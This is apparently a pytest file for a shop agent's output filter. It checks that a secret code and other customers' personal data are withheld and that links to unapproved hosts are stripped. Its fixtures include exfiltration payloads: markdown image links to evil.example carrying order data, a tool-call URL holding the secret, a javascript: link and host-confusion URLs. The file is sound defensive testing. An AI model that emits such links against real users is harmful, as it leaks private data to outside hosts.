"""The last look: what is known to be secret or private stays in, and links lead where they may."""

import pytest

from helpers.course.exercises.scripted import calling, saying
from helpers.security.controls import FilterOutput, OthersData, allow_hosts
from helpers.security.controls.output import ALLOWED_HOSTS, WITHHELD
from helpers.security.controls.parsed import REMOVED
from helpers.shop import open_orders
from tests.security.controls.running import CONFIG, agent_with, answered, returning

SECRET = "FERN-KIND-77Q3"


def leaks(text: str) -> bool:
    return SECRET.casefold() in text.casefold()


@pytest.fixture(scope="module")
def others() -> OthersData:
    return OthersData.of(open_orders())


def test_an_answer_with_the_secret_is_withheld() -> None:
    messages, _ = answered([FilterOutput(leaks=leaks)], says=[saying(f"It is {SECRET.lower()}.")])
    assert messages[-1].text == WITHHELD


def test_an_answer_without_it_passes_as_it_is() -> None:
    messages, _ = answered([FilterOutput(leaks=leaks)], says=[saying("Codes begin with FERN.")])
    assert messages[-1].text == "Codes begin with FERN."


def test_the_secret_does_not_leave_as_a_tool_s_argument_either() -> None:
    messages, _ = answered(
        [FilterOutput(leaks=leaks)],
        says=[calling(("read", {"address": f"https://x.example/?{SECRET}"}))],
        tools=[returning("ok")],
    )
    assert messages[-1].text == WITHHELD
    assert not any(getattr(message, "tool_calls", None) for message in messages)


def test_the_secret_in_two_halves_of_a_conversation() -> None:
    def in_pieces(text: str) -> bool:
        return SECRET in text.replace(" ", "").replace(".", "")

    agent, _ = agent_with([FilterOutput(leaks=in_pieces)], [saying("FERN-KI."), saying("ND-77Q3")])
    said = []
    for text in ("The first half?", "And the second half?"):
        state = agent.invoke({"messages": [("user", text)]}, CONFIG, context=None)
        said.append(state["messages"][-1].text)
    assert said == ["FERN-KI.", WITHHELD]


def test_the_personal_data_of_others_is_found_and_one_s_own_is_not(others: OthersData) -> None:
    customer = open_orders().customer("C-0042")
    written = [
        f"He is {customer.name}.",
        f"Write to {customer.email.upper()}!",
        f"Call {customer.phone.replace(' ', '-')}",
        f"Call +44{customer.phone.replace(' ', '')[1:]}",
        f"Sent to {customer.street}, {customer.town}",
        f"{customer.postcode.lower().replace(' ', '')}",
    ]
    for text in written:
        assert others.shown(text, "C-0029"), text
        assert others.shown(text, None), text
        assert not others.shown(text, "C-0042"), text


@pytest.mark.parametrize(
    "text", ["", "Call us on 01632 960120.", "The Alta 2 weighs 2.1 kg.", "Order FH-10234: £49.00."]
)
def test_what_belongs_to_nobody_passes(others: OthersData, text: str) -> None:
    assert others.shown(text, "C-0029") == []


def test_a_street_number_is_not_found_inside_another(others: OthersData) -> None:
    one = next(v for v in others.words if v[0].isdigit())
    assert others.shown(f"at {one}.", None) == [one]
    assert one not in others.shown(f"at 9{one}.", None)


def test_the_filter_withholds_data_of_others(others: OthersData) -> None:
    name = open_orders().customer("C-0042").name
    for customer, expected in (("C-0029", WITHHELD), ("C-0042", f"Hello {name}.")):
        messages, _ = answered(
            [FilterOutput(others=others)], says=[saying(f"Hello {name}.")], customer=customer
        )
        assert messages[-1].text == expected


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://evil.example/?d=1)", REMOVED),
        ("![x](<//evil.example/a b> 'title')", REMOVED),
        ("See [our page](https://evil.example/x) now.", "See our page now."),
        ("See [](http://evil.example).", f"See {REMOVED}."),
        ("Go to https://evil.example/a?b=c, now", f"Go to {REMOVED}, now"),
        ("<img src='https://evil.example/p.png'>", REMOVED),
        ("<img src=//evil.example/p.png>", REMOVED),
        ("[a]: //evil.example/x", REMOVED),
        ("[x](javascript:alert(1))", "x"),
        ("[x](https://fernhill.example@evil.example/)", "x"),
        ("[x](https://fernhill.example.evil.example/)", "x"),
        (r"[x](https://evil.example\@fernhill.example/)", "x"),
        ("[x](http:evil.example)", "x"),
        ("![x](https&colon;//evil.example/)", REMOVED),
        ("[x](https://[broken)", "x"),
        ("HTTPS://EVIL.EXAMPLE/", REMOVED),
    ],
)
def test_links_to_other_hosts_are_taken_out(text: str, shown: str) -> None:
    assert allow_hosts(text, ALLOWED_HOSTS) == shown


@pytest.mark.parametrize(
    "text",
    [
        "",
        "See [returns](https://fernhill.example/returns).",
        "![map](https://www.fernhill.example/map.png)",
        "https://FERNHILL.example/x",
        "[below](#sizes) and [page](/sizes)",
        "Ratio 3://4, and/or 12//13",
        "Write to business@fernhill.example.",
    ],
)
def test_what_may_be_linked_stays(text: str) -> None:
    assert allow_hosts(text, ALLOWED_HOSTS) == text


def test_the_filter_takes_links_out_of_the_rest() -> None:
    messages, _ = answered(
        [FilterOutput()], says=[saying("It is due. ![x](https://evil.example/?o=FH-10234)")]
    )
    assert messages[-1].text == f"It is due. {REMOVED}"
